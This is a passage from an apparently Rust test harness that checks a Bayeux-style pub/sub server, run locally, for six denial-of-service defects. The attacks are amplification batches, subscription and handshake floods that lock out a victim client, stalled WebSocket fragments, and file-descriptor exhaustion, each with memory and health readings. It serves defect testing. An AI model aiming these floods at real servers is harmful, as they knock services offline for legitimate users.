            describe_http(&post(env, message.as_bytes(), Duration::from_secs(60)).await),
        ),
        "jsonp" => {
            let r = jsonp(env, &message, Duration::from_secs(60)).await;
            (
                format!(
                    "GET ?message=<publish to \"/a\" x {}>&jsonp=cb ({} URI)",
                    bytes / 2,
                    kb(bytes + env.prefix.len() + 60)
                ),
                describe_http(&r),
            )
        }
        "ws" => {
            let mut ws = RawWs::open(env.http, &env.prefix, None, S5).await?;
            ws.send(1, bayeux::handshake("websocket").as_bytes(), S5)
                .await?;
            let text = ws.next_text(S5).await?;
            let id = serde_json::from_str::<serde_json::Value>(&text)
                .ok()
                .and_then(|v| v.get(0)?.get("clientId")?.as_str().map(str::to_string))
                .ok_or_else(|| {
                    format!("handshake refused: {}", describe_bayeux(text.as_bytes()))
                })?;
            let msg = format!(
                "[{{\"channel\":\"{channel}\",\"data\":\"x\",\"clientId\":{}}}]",
                bayeux::quote(&id)
            );
            ws.send(1, msg.as_bytes(), S30).await?;
            (
                format!(
                    "WebSocket: handshake, then one publish to \"/a\" x {} ({} channel name)",
                    bytes / 2,
                    kb(bytes)
                ),
                match ws.next_text(Duration::from_secs(60)).await {
                    Ok(t) => format!("reply {}", describe_bayeux(t.as_bytes())),
                    Err(e) => e,
                },
            )
        }
        v => return Err(format!("bad transport {v}")),
    };
    Ok(Outcome {
        sent,
        answer: format!("{answer} (after {:.1} s)", start.elapsed().as_secs_f64()),
        own: None,
    })
}

// ------------------------------------------------------------ defect 2: reply amplification

/// `[1,1,…]` just under 1 MiB: 524,287 messages.
fn ones_batch() -> (Vec<u8>, usize) {
    let n = 524_287;
    let mut b = Vec::with_capacity(2 * n + 1);
    b.push(b'[');
    for i in 0..n {
        if i > 0 {
            b.push(b',');
        }
        b.push(b'1');
    }
    b.push(b']');
    (b, n)
}

fn quick_batch(env: &Env) -> (Vec<u8>, usize) {
    if env.quick {
        let n = 50_000;
        let mut s = vec![b'1'; 2 * n - 1];
        for i in (1..s.len()).step_by(2) {
            s[i] = b',';
        }
        let mut b = vec![b'['];
        b.extend(s);
        b.push(b']');
        (b, n)
    } else {
        ones_batch()
    }
}

const HOLD: Duration = Duration::from_secs(10);

async fn amplify_ws(env: &Env) -> Res<Outcome> {
    let (batch, n) = quick_batch(env);
    let frames = 4;
    let mut ws = RawWs::open(env.http, &env.prefix, Some(4096), S5).await?;
    let mut sent = 0;
    let mut note = String::new();
    for _ in 0..frames {
        match ws.send(1, &batch, S30).await {
            Ok(()) => sent += 1,
            Err(e) => {
                note = format!("; sending stopped: {e}");
                break;
            }
        }
    }
    sleep(HOLD).await;
    let held = env.rss.cur();
    let first = ws.next(Duration::from_millis(200)).await;
    let first = match first {
        Ok(f) => f.describe().chars().take(60).collect(),
        Err(e) => e.text(),
    };
    drop(ws);
    Ok(Outcome {
        sent: format!(
            "{frames} WebSocket frames of [1,1,…] ({} each, {n} messages), never reading; held {} s",
            kb(batch.len()),
            HOLD.as_secs()
        ),
        answer: format!(
            "{sent} frames accepted{note}; RSS while held {} MB; first bytes of the answer: {first}",
            server::mb(held)
        ),
        own: None,
    })
}

async fn amplify_http1(env: &Env) -> Res<Outcome> {
    let (batch, n) = quick_batch(env);
    let conns = 10;
    let req = json_post(env, &batch);
    let mut set = JoinSet::new();
    for _ in 0..conns {
        let addr = env.http;
        let req = req.clone();
        set.spawn(async move {
            let mut s = raw::tcp(addr, Some(4096), S5).await?;
            raw::write_for(&mut s, &req, S30).await?;
            // Read only the first bytes, to see the status; then stop reading.
            let mut buf = vec![0u8; 512];
            let status = match timeout(Duration::from_secs(60), s.read(&mut buf)).await {
                Ok(Ok(k)) if k > 0 => raw::statuses(&buf[..k])
                    .first()
                    .map(|c| c.to_string())
                    .unwrap_or_else(|| "?".into()),
                Ok(Ok(_)) => "closed".into(),
                Ok(Err(e)) => e.kind().to_string(),
                Err(_) => "no answer in 60 s".into(),
            };
            Ok::<_, String>((s, status))
        });
    }
    let mut socks = Vec::new();
    let mut statuses: Vec<String> = Vec::new();
    while let Some(r) = set.join_next().await {
        match r {
            Ok(Ok((s, st))) => {
                socks.push(s);
                statuses.push(st);
            }
            Ok(Err(e)) => statuses.push(e),
            Err(e) => statuses.push(e.to_string()),
        }
    }
    sleep(HOLD).await;
    let held = env.rss.cur();
    // Did the server give up on any of them?
    let mut closed = 0;
    for s in socks.iter_mut() {
        let mut b = [0u8; 1];
        if let Ok(Ok(0)) = timeout(Duration::from_millis(1), s.peek(&mut b)).await {
            closed += 1;
        }
    }
    drop(socks);
    statuses.sort();
    statuses.dedup();
    Ok(Outcome {
        sent: format!(
            "{conns} HTTP/1.1 connections each POSTing [1,1,…] ({}, {n} messages), reading only the status line; held {} s",
            kb(batch.len()),
            HOLD.as_secs()
        ),
        answer: format!(
            "status {}; RSS while held {} MB; {closed} closed by the server",
            statuses.join("/"),
            server::mb(held)
        ),
        own: None,
    })
}

async fn amplify_h2(env: &Env) -> Res<Outcome> {
    let (batch, n) = quick_batch(env);
    let streams = 10;
    let batch = Bytes::from(batch);
    let io = tls_h2(env).await?;
    let (client, conn) = h2::client::Builder::new()
        .initial_window_size(65_535)
        .initial_connection_window_size(65_535)
        .handshake::<_, Bytes>(io)
        .await
        .map_err(|e| format!("h2 handshake: {e}"))?;
    let conn_task = tokio::spawn(conn);
    let uri = format!("https://localhost{}", env.prefix);
    let mut client = client;
    let mut pending = Vec::new();
    let mut sends = Vec::new();
    for _ in 0..streams {
        client = timeout(S5, client.ready())
            .await
            .map_err(|_| "no stream slot".to_string())?
            .map_err(|e| format!("h2: {e}"))?;
        let req = http::Request::post(uri.as_str())
            .header("content-type", "application/json")
            .body(())
            .map_err(|e| format!("request: {e}"))?;
        let (resp, mut body) = client
            .send_request(req, false)
            .map_err(|e| format!("h2 request: {e}"))?;
        body.send_data(batch.clone(), true)
            .map_err(|e| format!("h2 body: {e}"))?;
        pending.push(resp);
        sends.push(body);
    }
    // Headers only: the bodies stay unread, so the flow-control windows stay shut.
    let mut statuses = Vec::new();
    let mut bodies = Vec::new();
    for resp in pending {
        match timeout(Duration::from_secs(60), resp).await {
            Ok(Ok(r)) => {
                statuses.push(r.status().as_u16().to_string());
                bodies.push(r.into_body());
            }
            Ok(Err(e)) => statuses.push(excerpt(&e.to_string(), 60)),
            Err(_) => statuses.push("no headers in 60 s".into()),
        }
    }
    sleep(HOLD).await;
    let held = env.rss.cur();
    statuses.sort();
    statuses.dedup();
    let state = if conn_task.is_finished() {
        "connection ended by the server"
    } else {
        "connection still open"
    };
    drop(bodies);
    drop(sends);
    drop(client);
    conn_task.abort();
    Ok(Outcome {
        sent: format!(
            "{streams} h2 streams on one TLS connection each POSTing [1,1,…] ({}, {n} messages), windows of 64 KB never released; held {} s",
            kb(batch.len()),
            HOLD.as_secs()
        ),
        answer: format!(
            "status {}; RSS while held {} MB; {state}",
            statuses.join("/"),
            server::mb(held)
        ),
        own: None,
    })
}

// ------------------------------------------------------------ defect 3: subscriptions

async fn subscriptions(env: &Env) -> Res<Outcome> {
    let clients = if env.quick { 100 } else { 1000 };
    let per_client = 1000;
    let hs = bayeux::handshake("long-polling");
    let hs_one = hs.trim_start_matches('[').trim_end_matches(']');
    let batch = format!("[{}]", vec![hs_one; clients].join(","));
    let start = Instant::now();
    let (code, body) = post(env, batch.as_bytes(), S30).await?;
    let ids: Vec<String> = serde_json::from_slice::<serde_json::Value>(&body)
        .ok()
        .and_then(|v| {
            v.as_array().map(|a| {
                a.iter()
                    .filter_map(|m| m.get("clientId")?.as_str().map(str::to_string))
                    .collect()
            })
        })
        .unwrap_or_default();
    if ids.is_empty() {
        return Err(format!(
            "{clients} handshakes answered {code} {}",
            describe_bayeux(&body)
        ));
    }
    let mut accepted = 0u64;
    let mut refused = 0u64;
    let mut errors: Vec<String> = Vec::new();
    let mut uploaded = 0usize;
    let mut posts = 0;
    let mut cur: Vec<String> = Vec::new();
    let mut cur_len = 0usize;
    let flush = |msgs: &mut Vec<String>| -> Vec<u8> {
        let b = format!("[{}]", msgs.join(","));
        msgs.clear();
        b.into_bytes()
    };
    let mut bodies = Vec::new();
    for (i, id) in ids.iter().enumerate() {
        let subs: Vec<String> = (0..per_client)
            .map(|j| format!("\"/s/{}\"", i * per_client + j))
            .collect();
        let m = format!(
            "{{\"channel\":\"/meta/subscribe\",\"clientId\":{},\"subscription\":[{}]}}",
            bayeux::quote(id),
            subs.join(",")
        );
        if cur_len + m.len() + 2 > 1_000_000 {
            bodies.push(flush(&mut cur));
            cur_len = 0;
        }
        cur_len += m.len() + 1;
        cur.push(m);
    }
    if !cur.is_empty() {
        bodies.push(flush(&mut cur));
    }
    for b in bodies {
        uploaded += b.len();
        posts += 1;
        match post(env, &b, Duration::from_secs(60)).await {
            Ok((code, body)) => {
                let v: serde_json::Value =
                    serde_json::from_slice(&body).unwrap_or(serde_json::Value::Null);
                if !v.is_array() {
                    let e = format!("whole POST: {code} {}", describe_bayeux(&body));
                    if errors.len() < 3 && !errors.contains(&e) {
                        errors.push(e);
                    }
                }
                for m in v.as_array().into_iter().flatten() {
                    let count = m
                        .get("subscription")
                        .and_then(|s| s.as_array())
                        .map(|a| a.len() as u64)
                        .unwrap_or(1);
                    if m.get("successful").and_then(|s| s.as_bool()) == Some(true) {
                        accepted += count;
                    } else {
                        refused += count;
                        let e = m
                            .get("error")
                            .and_then(|e| e.as_str())
                            .map(|e| excerpt(e, 50))
                            .unwrap_or_default();
                        if errors.len() < 2 && !errors.contains(&e) {
                            errors.push(e);
                        }
                    }
                }
            }
            Err(e) => {
                errors.push(e);
                break;
            }
        }
    }
    Ok(Outcome {
        sent: format!(
            "{clients} handshakes in one POST ({} answered with a clientId), then {} subscriptions ({per_client} distinct channels for each of those clients) in {posts} POSTs ({})",
            ids.len(),
            ids.len() * per_client,
            kb(uploaded)
        ),
        answer: format!(
            "{accepted} accepted, {refused} refused{} in {:.1} s",
            if errors.is_empty() {
                String::new()
            } else {
                format!(" ({})", errors.join("; "))
            },
            start.elapsed().as_secs_f64()
        ),
        own: None,
    })
}

// ------------------------------------------------------------ defect 4: handshake lock-out

async fn handshake_lockout(env: &Env) -> Res<Outcome> {
    let posts = 11;
    let per_post = if env.quick { 1_000 } else { 10_000 };
    let one = "{\"channel\":\"/meta/handshake\",\"version\":\"1.0\",\"supportedConnectionTypes\":[\"long-polling\"]}";
    let body = format!("[{}]", vec![one; per_post].join(","));
    let start = Instant::now();
    let mut ok = 0usize;
    let mut refused = 0usize;
    let mut errors: Vec<String> = Vec::new();
    for _ in 0..posts {
        match post(env, body.as_bytes(), S30).await {
            Ok((code, b)) => {
                let v: serde_json::Value =
                    serde_json::from_slice(&b).unwrap_or(serde_json::Value::Null);
                if !v.is_array() {
                    // Refused as a whole (a status with a plain body).
                    let e = format!("whole POST: {code} {}", describe_bayeux(&b));
                    if errors.len() < 3 && !errors.contains(&e) {
                        errors.push(e);
                    }
                }
                for m in v.as_array().into_iter().flatten() {
                    if m.get("successful").and_then(|s| s.as_bool()) == Some(true) {
                        ok += 1;
                    } else {
                        refused += 1;
                        let e = m
                            .get("error")
                            .and_then(|e| e.as_str())
                            .unwrap_or("")
                            .to_string();
                        if errors.len() < 2 && !errors.contains(&e) {
                            errors.push(e);
                        }
                    }
                }
            }
            Err(e) => {
                errors.push(e);
                break;
            }
        }
    }
    let secs = start.elapsed().as_secs_f64();
    let victim = victim_handshake(env).await;
    Ok(Outcome {
        sent: format!(
            "{posts} POSTs of {per_post} /meta/handshake messages ({} in all)",
            kb(body.len() * posts)
        ),
        answer: format!(
            "{ok} sessions created, {refused} refused{} in {secs:.1} s; then a victim's handshake (from {VICTIM_IP}): {victim}",
            if errors.is_empty() {
                String::new()
            } else {
                format!(" ({})", errors.join("; "))
            }
        ),
        own: None,
    })
}

/// The victim's address: another client than the attacker (127.0.0.1), as a server
/// that limits per address sees it.
pub const VICTIM_IP: std::net::IpAddr = std::net::IpAddr::V4(std::net::Ipv4Addr::new(127, 0, 0, 2));

/// A normal client's handshake by POST, from [`VICTIM_IP`]: its reply.
pub async fn victim_handshake(env: &Env) -> String {
    let r = raw::http_once_from(
        env.http,
        Some(VICTIM_IP),
        "POST",
        &env.prefix,
        &[("Content-Type", "application/json")],
        Some(bayeux::handshake("long-polling").as_bytes()),
        S5,
    )
    .await;
    describe_http(&r)
}

// ------------------------------------------------------------ defect 5: WebSocket limits

async fn own_start(spec: &Spec) -> Res<Instance> {
    Instance::start(spec).await
}

async fn own_finish(mut inst: Instance, before: u64) -> Own {
    sleep(S1).await;
    let after = inst.rss.cur();
    let peak = inst.rss.max();
    let (alive, health) = inst.health().await;
    let name = inst.spec.name.clone();
    let state = if alive {
        format!("alive, /healthz {health}")
    } else {
        format!("DIED: {health}; log: {}", crate::death_cause(&inst))
    };
    let _ = inst.stop().await;
    Own {
        name,
        rss: (before, peak, after),
        state,
        died: !alive,
    }
}

async fn ws_max_connections(env: &Env) -> Res<Outcome> {
    let n = if env.quick { 300 } else { 1000 };
    let inst = own_start(&env.limits_spec).await?;
    let before = inst.rss.cur();
    let gate = Arc::new(tokio::sync::Semaphore::new(50));
    let mut set = JoinSet::new();
    for _ in 0..n {
        let addr = inst.http;
        let prefix = env.prefix.clone();
        let gate = gate.clone();
        set.spawn(async move {
            let _p = gate.acquire().await;
            RawWs::open(addr, &prefix, None, S5).await
        });
    }
    let mut open = Vec::new();
    let mut failures: Vec<(String, usize)> = Vec::new();
    while let Some(r) = set.join_next().await {
        match r {
            Ok(Ok(ws)) => open.push(ws),
            Ok(Err(e)) => match failures.iter_mut().find(|(k, _)| *k == e) {
                Some((_, c)) => *c += 1,
                None => failures.push((e, 1)),
            },
            Err(e) => failures.push((e.to_string(), 1)),
        }
    }
    // While they are held: do plain requests still get in?
    let mut plain_ok = 0;
    for _ in 0..20 {
        if let Ok((200, _)) = raw::http_once(
            inst.http,
            "POST",
            &env.prefix,
            &[("Content-Type", "application/json")],
            Some(bayeux::handshake("long-polling").as_bytes()),
            Duration::from_secs(2),
        )
        .await
        {
            plain_ok += 1;
        }
    }
    let opened = open.len();
    drop(open);
    let fail_text = failures
        .iter()
        .map(|(e, c)| format!("{c}x {e}"))
        .collect::<Vec<_>>()
        .join(", ");
    let own = own_finish(inst, before).await;
    Ok(Outcome {
        sent: format!("{n} WebSocket upgrades to a server with max_connections = 200"),
        answer: format!(
            "{opened} upgrades succeeded{}; while they were open, {plain_ok}/20 plain HTTP handshakes answered 200",
            if fail_text.is_empty() {
                String::new()
            } else {
                format!(", failed: {fail_text}")
            }
        ),
        own: Some(own),
    })
}

async fn ws_fragment_idle(env: &Env) -> Res<Outcome> {
    let frags = if env.quick { 50 } else { 200 };
    let idle = 50;
    let frag_bytes = 1_000_000;
    let wait = env.limits_timeout * 2 + S5;
    let inst = own_start(&env.limits_spec).await?;
    let before = inst.rss.cur();
    let start = Instant::now();
    let deadline = start + wait;
    let payload = Arc::new(vec![b' '; frag_bytes]);
    let gate = Arc::new(tokio::sync::Semaphore::new(20));
    let mut set = JoinSet::new();
    for i in 0..frags + idle {
        let addr = inst.http;
        let prefix = env.prefix.clone();
        let payload = payload.clone();
        let gate = gate.clone();
        let fragment = i < frags;
        set.spawn(async move {
            let mut ws = {
                let _p = gate.acquire().await;
                let mut ws = RawWs::open(addr, &prefix, None, S5).await.ok()?;
                if fragment {
                    // The first fragment of a text message that never finishes.
                    let f = raw::frame(false, 0, 1, &payload, true);
                    ws.send_raw(&f, S30).await.ok()?;
                }
                ws
            };
            let opened = Instant::now();
            let left = deadline.saturating_duration_since(Instant::now());
            let end = match ws.next(left).await {
                Err(End::Timeout) => None,
                _ => Some(opened.elapsed()),
            };
            Some((fragment, end))
        });
    }
    // Memory while everything is held, sampled once all fragments are in.
    let mut results = Vec::new();
    let mut held_rss = 0;
    let sample_at = start + S5;
    let mut sampled = false;
    loop {
        let next = if sampled {
            set.join_next().await
        } else {
            tokio::select! {
                r = set.join_next() => r,
                _ = tokio::time::sleep_until(sample_at.into()) => {
                    held_rss = inst.rss.cur();
                    sampled = true;
                    continue;
                }
            }
        };
        match next {
            Some(Ok(Some(r))) => results.push(r),
            Some(_) => {}
            None => break,
        }
    }
    if !sampled {
        held_rss = inst.rss.cur();
    }
    let describe = |frag: bool| {
        let mine: Vec<&Option<Duration>> = results
            .iter()
            .filter(|(f, _)| *f == frag)
            .map(|(_, e)| e)
            .collect();
        let mut closed: Vec<Duration> = mine.iter().filter_map(|e| **e).collect();
        closed.sort();
        let median = closed
            .get(closed.len() / 2)
            .map(|d| format!(" (median after {:.1} s)", d.as_secs_f64()))
            .unwrap_or_default();
        format!(
            "{} opened, {} closed by the server{median}, {} still open",
            mine.len(),
            closed.len(),
            mine.len() - closed.len()
        )
    };
    let answer = format!(
        "unfinished messages: {}; silent sockets: {}; RSS with all held {} MB",
        describe(true),
        describe(false),
        server::mb(held_rss)
    );
    let own = own_finish(inst, before).await;
    Ok(Outcome {
        sent: format!(
            "{frags} WebSockets each sending the first {} fragment of a message that never ends, and {idle} that send nothing, to a route with timeout_secs = {}; watched for {} s",
            kb(frag_bytes),
            env.limits_timeout.as_secs_f64(),
            wait.as_secs()
        ),
        answer,
        own: Some(own),
    })
}

// ------------------------------------------------------------ defect 6: descriptors

async fn fd_exhaustion(env: &Env) -> Res<Outcome> {
    let limit = env.fd_spec.nofile.unwrap_or(1024);
    let n = limit as usize + 100;
    let inst = own_start(&env.fd_spec).await?;
    let before = inst.rss.cur();
    let log_before = server::count_log(&env.fd_spec);
    let gate = Arc::new(tokio::sync::Semaphore::new(100));
    let mut set = JoinSet::new();
    for _ in 0..n {
        let addr = inst.http;
        let gate = gate.clone();
        set.spawn(async move {
            let _p = gate.acquire().await;
            raw::tcp(addr, None, Duration::from_secs(3)).await
        });
    }
    let mut socks = Vec::new();
    let mut failed = 0;
    while let Some(r) = set.join_next().await {
        match r {
            Ok(Ok(s)) => socks.push(s),
            _ => failed += 1,
        }
    }
    sleep(Duration::from_secs(2)).await;
    let probe = |inst: &Instance| {
        let http = inst.http;
        let admin = inst.admin;
        let prefix = env.prefix.clone();
        async move {
            let t = Instant::now();
            let hs = raw::http_once(
                http,
                "POST",
                &prefix,
                &[("Content-Type", "application/json")],
                Some(bayeux::handshake("long-polling").as_bytes()),
                Duration::from_secs(3),
            )
            .await;
            let hs = format!("{} ({} ms)", describe_http(&hs), t.elapsed().as_millis());
            let health = server::healthz(admin, Duration::from_secs(3)).await;
            format!("new client's handshake {hs}, /healthz {health}")
        }
    };
    let during = probe(&inst).await;
    let held = socks.len();
    socks.truncate(held.saturating_sub(300));
    sleep(Duration::from_secs(3)).await;
    let after_release = probe(&inst).await;
    drop(socks);
    let log_after = server::count_log(&env.fd_spec);
    let own = own_finish(inst, before).await;
    Ok(Outcome {
        sent: format!(
            "{n} idle TCP connections to a server started with an open-files limit of {limit}"
        ),
        answer: format!(
            "{held} connected ({failed} failed); at the limit: {during}; after closing 300: {after_release}; log +{} WARN lines",
            log_after.warns.saturating_sub(log_before.warns)
        ),
        own: Some(own),
    })
}
